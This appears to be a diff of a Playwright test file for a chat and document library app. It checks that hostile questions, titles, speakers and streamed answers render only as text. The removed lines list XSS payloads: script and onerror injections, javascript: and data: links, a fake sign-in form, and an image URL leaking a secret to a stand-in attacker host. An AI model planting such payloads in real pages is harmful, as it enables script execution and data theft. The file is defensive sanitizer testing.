@@ -1,108 +1,195 @@
-"""Whatever a model, a document or a question says: it stays text."""
+"""Whatever a model, a document, a question or a title says: it stays text, and nobody hears of it."""
+
+from __future__ import annotations
+
+import random
+from collections.abc import Iterator, Sequence
+from urllib.parse import quote
 
 import pytest
 from chat_page import ChatPage
-from page_server import served
+from harmless import ALLOWED, armed, harm
+from history_page import answered, call
+from page_server import PageServer, served
 from playwright.sync_api import expect
 
 from footnote.app import parts
 from footnote.passages import Document, Kind, Passage, Segment
 from footnote.settings import Settings
+from hostile_inputs import FAMILIES, INPUTS
 
-ELSEWHERE = "http://attacker.invalid"
-PAYLOADS = [
-    "<script>window.owned = 'script'</script>",
-    f'<img src="{ELSEWHERE}/x.png" onerror="window.owned = 1">',
-    f"![image]({ELSEWHERE}/leak.png?q=secret)",
-    "[link](javascript:window.owned='link')",
-    "[data](data:text/html,<script>parent.owned=1</script>)",
-    f'<form action="{ELSEWHERE}"><input name=q><button>Sign in</button></form>',
-    f'<iframe src="{ELSEWHERE}"></iframe>',
-    "<svg onload=\"window.owned='svg'\"><script>window.owned=1</script></svg>",
-    f"<style>body {{ background: url({ELSEWHERE}/css) }}</style>",
-    f'<link rel=stylesheet href="{ELSEWHERE}/x.css"><base href="{ELSEWHERE}/">',
-    '<a href="#" onclick="window.owned=1" id="query" class="retry" data-turn="x">click</a>',
-    '<math><mtext><img src=x onerror="window.owned=1"></mtext></math>',
-    '$\\href{javascript:window.owned=1}{x}$ and $$\\text{<img src=x onerror="window.owned=1">}$$',
-    '```"><script>window.owned=1</script>\n<script>window.owned=1</script>\n```',
-    "| <img src=x onerror=window.owned=1> | b |\n|---|---|\n| <script>window.owned=1</script> | [x](vbscript:1) |",
-    "\u2028\u2029</script><!-- {{7*7}} ${7*7} \x1b[31m a separator\u2028and an end",
-]
-HOSTILE = "<img src=x onerror=\"window.owned='document'\"><script>window.owned=1</script>"
+AT_ONCE = 16
+"""How many inputs one document holds."""
+LONGEST_TITLE = 200
+
+
+def _document(n: int, inputs: tuple[str, ...]) -> tuple[Document, Passage]:
+    """A recording with hostile words in its title, its speakers, its tags and all that is said."""
+    turns = [f"{_line(text)}: The attack says {text}" for text in inputs]
+    offsets = [sum(len(turn) + 1 for turn in turns[:at]) for at in range(len(turns))]
+    segments = tuple(
+        Segment(offset, at, speaker=_line(text), start_s=float(at), end_s=at + 1.0)
+        for at, (offset, text) in enumerate(zip(offsets, inputs, strict=True))
+    )
+    speakers, title = tuple(map(_line, inputs)), _line(inputs[0])
+    document = Document(
+        f"<b id=query>/{n}", title, Kind.RECORDING, f"{n}.txt", str(n), date="2026-01-02", words=9, speakers=speakers,
+        tags=tuple(speakers[:3]),
+    )  # fmt: skip
+    return document, Passage(f"p{n}", document.id, title, 0, "\n".join(turns), segments)
+
+
+def _line(text: str) -> str:
+    return " ".join(text.split())[:LONGEST_TITLE]
+
+
+def _some(inputs: Sequence[str], size: int) -> list[tuple[str, ...]]:
+    return [tuple(inputs[at : at + size]) for at in range(0, len(inputs), size)]
 
 
 @pytest.fixture(scope="module")
-def hostile_server(tmp_path_factory):
-    """A library whose one document is hostile in its title, its speakers and its words."""
+def hostile_server(tmp_path_factory) -> Iterator[PageServer]:
+    """A library with every input in it."""
     nothing = tmp_path_factory.mktemp("nothing")
-    made = parts(Settings(data=tmp_path_factory.mktemp("hostile"), library=nothing))
-    text = f"{HOSTILE}: The attack begins here. {' '.join(PAYLOADS)}\n{HOSTILE}: And ends."
-    segments = (
-        Segment(0, 0, speaker=HOSTILE, start_s=1.0, end_s=2.0),
-        Segment(text.rindex(HOSTILE), 1, speaker=HOSTILE, start_s=2.0, end_s=3.0),
-    )
-    document = Document("hostile/<b>id", f"Title {HOSTILE}", Kind.RECORDING, "hostile.txt", "1", words=9)
-    made.library.replace(document, [Passage("p1", document.id, document.title, 0, text, segments)])
+    made = parts(Settings(data=tmp_path_factory.mktemp("hostile"), library=nothing, rate_limit="off"))
+    for n, inputs in enumerate(_some(INPUTS, AT_ONCE)):
+        document, passage = _document(n, inputs)
+        made.library.replace(document, [passage])
     with served(made) as server:
         yield server
 
 
 @pytest.fixture
-def hostile_chat(context, hostile_server):
-    yield ChatPage(context.new_page()).open(hostile_server.url)
+def hostile_chat(new_context, hostile_server, watch) -> Iterator[ChatPage]:
+    yield ChatPage(armed(new_context())).open(hostile_server.url)
     hostile_server.model.rest()
+    assert watch.hosts == {"127.0.0.1"}
+    assert [request for request in watch.requests if "leak" in request] == []
 
 
-def test_hostile_text_never_runs_loads_or_becomes_anything_but_text(hostile_chat, hostile_server, watch):
-    """In the answer while it streams and when done, the question, the title, the speaker, the excerpt, a reload."""
+def test_there_are_many_of_them():
+    """Each another one."""
+    print(f"hostile inputs: {len(INPUTS)}, of {len(FAMILIES)} families")
+    assert len(INPUTS) >= 300
+
+
+def test_hostile_answers_stay_text(hostile_chat, hostile_server):
+    """Every input, cut into tokens of one to seven characters: while it streams, when it is done, after a reload."""
     chat = hostile_chat
-    question = f"The attack? {' '.join(PAYLOADS[:8])}"
-    chat.page.get_by_label("Limit the next question to these documents").first.click()
-    chat.page.get_by_role("option").first.click()
-    chat.page.keyboard.press("Escape")
-    chat.ask(question)
+    cuts = random.Random(4)
+    for family, inputs in FAMILIES.items():
+        chat.ask(f"The {family} attack?")
+        writing = hostile_server.model.asked()
+        for text in inputs:
+            writing.say(*_cut(text, cuts), "\n\n")
+        writing.say("So it says [1]. All said.")
+        chat.shows("All said.")
+        assert harm(chat.page) == [], family
+        writing.finish()
+        chat.has_ended()
+    assert chat.answers.count() == len(FAMILIES)
+    expect(chat.answers.first).to_contain_text("<script>hit()</script>")
+    assert harm(chat.page) == []
+    chat.reload()
+    expect(chat.answers.last).to_contain_text("All said.")
+    assert harm(chat.page) == []
+
+
+def _cut(text: str, cuts: random.Random) -> list[str]:
+    pieces = []
+    while text:
+        size = cuts.randint(1, 7)
+        pieces.append(text[:size])
+        text = text[size:]
+    return pieces
+
+
+def test_an_unfinished_text_is_harmless_wherever_a_token_ends(hostile_chat, hostile_server):
+    """Every input, after each of its characters, drawn the way that an answer's tail is."""
+    chat = hostile_chat
+    chat.ask("What comes now?")
     writing = hostile_server.model.asked()
-    assert len(writing.prompt.passages) == 1
-    for payload in PAYLOADS:
-        writing.say("\n\n", *(payload[at : at + 9] for at in range(0, len(payload), 9)), every_s=0.002)
-    chat.shows("and an end")
-    writing.say("\n\nSo it says [1].")
-    chat.shows("So it says")
-    _is_harmless(chat)
+    writing.say("It")
+    chat.shows("It")
+    found = chat.page.evaluate(_EVERY_CUT, [INPUTS, ALLOWED])
+    assert found == []
+    assert harm(chat.page) == []
+    # A sample by the whole way, each token an event of its own.
+    for text in random.Random(5).sample(INPUTS, 6):
+        writing.say("\n\n", *_cut(text[:70], random.Random(6)), every_s=0.06)
+    writing.say("\n\nAll said.")
+    chat.shows("All said.")
+    assert harm(chat.page) == []
     writing.finish()
     chat.has_ended()
-    expect(chat.questions).to_have_text([question])
-    expect(chat.sources.first.locator(".source-title")).to_have_text(f"Title {HOSTILE}")
-    expect(chat.sources.first.locator(".source-head")).to_contain_text(HOSTILE)
-    expect(chat.sources.first.locator("blockquote")).to_contain_text("The attack begins here.")
-    expect(chat.body).to_contain_text("<script>window.owned = 'script'</script>")
-    expect(chat.body).to_contain_text(PAYLOADS[5])
-    _is_harmless(chat)
-    chat.reload()
-    chat.has_ended()
-    _is_harmless(chat)
-    chat.body.locator("a", has_text="click").first.wait_for(state="detached")
-    assert watch.hosts == {"127.0.0.1"}
 
 
-def _is_harmless(chat: ChatPage) -> None:
-    assert chat.page.evaluate("window.owned") is None
-    assert chat.page.evaluate(_ACTIVE) == []
-
-
-_ACTIVE = """() => {
-  const elements = [...document.querySelectorAll("#thread *")];
-  const kinds = "script, img, iframe, form, input, svg, style, link, base, object, embed, video, audio, meta";
-  const found = elements.filter((e) => e.matches(kinds)).map((e) => e.outerHTML);
-  for (const element of elements) {
-    for (const { name, value } of element.attributes) {
-      if (name.startsWith("on") || name === "style" || name === "src") found.push(element.outerHTML);
-      if (name === "href" && !/^(#$|https?:|mailto:)/.test(value)) found.push(element.outerHTML);
+_EVERY_CUT = """([inputs, allowed]) => {
+  const tail = document.querySelector("#thread .body").appendChild(document.createElement("section"));
+  const [tags, attributes] = [new Set(allowed.tags), new Set(allowed.attributes)];
+  const found = [];
+  for (const input of inputs) {
+    for (let end = 1; end <= input.length; end += 1) {
+      footnote.patch.patch(tail, footnote.sketch.sketch(input.slice(0, end)));
+      for (const element of tail.querySelectorAll("*")) {
+        const bad = !tags.has(element.localName) || element.getAttributeNames().some((name) =>
+          !attributes.has(name) && !name.startsWith("aria-") ||
+          name === "href" && !/^(#$|https?:|mailto:)/.test(element.getAttribute(name)));
+        if (bad) found.push(input.slice(0, end));
+      }
     }
-    if (element.matches("a[href]:not(.cite)") && !/noopener/.test(element.rel)) found.push(element.outerHTML);
   }
+  tail.remove();
   return found;
 }"""
+
+
+def test_hostile_documents_stay_text(hostile_chat, hostile_server):
+    """In the citations, the card, the inspector and the source beside the answer, and in the library."""
+    chat = hostile_chat
+    page = chat.page
+    chat.ask("What does the attack say?")
+    writing = hostile_server.model.asked()
+    assert len(writing.prompt.passages) > 2
+    writing.say("So it says [1]. And so [2].")
+    writing.finish()
+    chat.has_ended()
+    expect(chat.sources.first).to_contain_text("The attack says")
+    chat.body.locator(".cite").first.hover()
+    assert harm(page) == []
+    documents = [_document(n, inputs)[0] for n, inputs in enumerate(_some(INPUTS, AT_ONCE))]
+    for document in documents:
+        page.evaluate("id => footnote.source.open({ document: id })", document.id)
+        expect(page.locator("#panel")).to_contain_text(document.title)
+        expect(page.locator("#panel")).to_contain_text("The attack says")
+        assert harm(page) == [], document.title
+    page.goto(f"{hostile_server.url}/library?source={quote(documents[3].id, safe='')}&quote={quote(INPUTS[3])}")
+    expect(page.locator("#panel")).to_contain_text("The attack says")
+    expect(page.locator("#library")).to_be_visible()
+    assert harm(page) == []
+
+
+def test_hostile_questions_titles_and_comments_stay_text(hostile_chat, hostile_server):
+    """In the thread, the sidebar and the window's title."""
+    chat = hostile_chat
+    questions = [
+        "\n".join(inputs).replace("\0", "") for inputs in _some(INPUTS, 50)
+    ]  # a question with a NUL is refused
+    session = answered(hostile_server, *questions)
+    for title in FAMILIES["mutation"][:12]:
+        named = answered(hostile_server, title)
+        call(hostile_server, "PATCH", f"/sessions/{named}", {"title": _line(title)})
+    answer = call(hostile_server, "GET", f"/sessions/{session}")["turns"][0]["answer_id"]
+    said = {"verdict": "down", "reason": "incomplete", "comment": "\n".join(INPUTS[:40])[:900]}
+    call(hostile_server, "PUT", f"/answers/{answer}/feedback", said)
+    chat.page.goto(f"{hostile_server.url}/c/{session}")
+    expect(chat.questions.last).to_contain_text(INPUTS[-1])
+    expect(chat.page.locator("#history-list")).to_contain_text("</noscript><img")
+    assert harm(chat.page) == []
+    chat.page.get_by_role("button", name="Edit the question").first.click()
+    chat.page.locator("#history-query").fill(INPUTS[0])
+    expect(chat.page.locator("#history-list")).to_contain_text(INPUTS[0])
+    assert harm(chat.page) == []
 
 
 @pytest.mark.console("Content Security Policy", "Failed to load resource")
